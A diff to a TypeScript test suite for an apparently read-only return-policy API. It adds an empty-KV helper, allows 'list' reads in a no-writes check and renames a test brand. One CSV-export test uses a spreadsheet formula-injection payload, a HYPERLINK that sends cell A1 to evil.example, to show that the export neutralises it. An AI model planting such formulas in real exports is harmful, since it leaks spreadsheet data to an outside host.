@@ -10,7 +10,7 @@ import { createApp } from '../../functions/app.js';
 import { BundledPolicies } from '../../functions/policy-bundle.js';
 import type { Problem } from '../../functions/problem.js';
 import { KOSPET_RETURN } from './claims.js';
-import { bundledPolicy, call, freshApp, postJson, readJson } from './worker.js';
+import { bundledPolicy, call, freshApp, postJson, readJson, emptyKv } from './worker.js';
 
 const READ_ROUTES = ['/healthz', '/openapi.json', '/docs', '/v1/brands', '/v1/brands/kospet', '/v1/brands/kospet/coverage?part=watch', '/v1/brands/kospet/sheets', '/v1/brands/kospet/sheets/services', '/v1/brands/kospet/sheets/services?format=csv'];
 
@@ -34,7 +34,7 @@ describe('nothing writes', () => {
 
   it('only ever reads the KV namespace, whatever it is asked', async () => {
     const calls: string[] = [];
-    // Every method of the binding recorded: a put, delete or list would show here.
+    // Every method of the binding recorded: a put or delete would show here (get and list only read).
     const spy = new Proxy(env.POLICIES, {
       get(target, prop, receiver) {
         const value = Reflect.get(target, prop, receiver) as unknown;
@@ -46,7 +46,7 @@ describe('nothing writes', () => {
     await (await post('/v1/eligibility', KOSPET_RETURN)).arrayBuffer();
     await (await post('/v1/eligibility/batch', { items: [KOSPET_RETURN] })).arrayBuffer();
     expect(calls.length).toBeGreaterThan(0);
-    expect([...new Set(calls)]).toEqual(['get']);
+    expect([...new Set(calls)].sort()).toEqual(['get', 'list']);
   });
 });
 
@@ -74,7 +74,7 @@ describe('CORS only for the configured origins', () => {
 });
 
 describe('secure headers on every kind of answer', () => {
-  it.each([...READ_ROUTES, '/nope', '/v1/brands/acme'])('GET %s', async (path) => {
+  it.each([...READ_ROUTES, '/nope', '/v1/brands/no-such-brand'])('GET %s', async (path) => {
     const res = await call(path);
     expect(res.status).toBeLessThan(500);
     expect(res.headers.get('x-content-type-options')).toBe('nosniff');
@@ -106,7 +106,7 @@ describe('GET /v1/brands/:brand/sheets/:sheet?format=csv', () => {
   it('neutralizes a formula an editor typed into a label', async () => {
     const kospet = bundledPolicy('kospet');
     const sneaky = { ...kospet, remedies: kospet.remedies.map((r, i) => (i === 0 ? { ...r, label: '=HYPERLINK("http://evil.example/?x="&A1,"Refund")' } : r)) };
-    const { request } = freshApp({ POLICIES: { get: async () => null } }, { bundle: BundledPolicies.of({ kospet: sneaky }) });
+    const { request } = freshApp({ POLICIES: emptyKv }, { bundle: BundledPolicies.of({ kospet: sneaky }) });
     const rows = parseCsv(await (await request('/v1/brands/kospet/sheets/remedies?format=csv')).text());
     expect(rows[1]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Refund")`);
     expect(rows.flat().filter((cell) => FORMULA.test(cell))).toEqual([]);
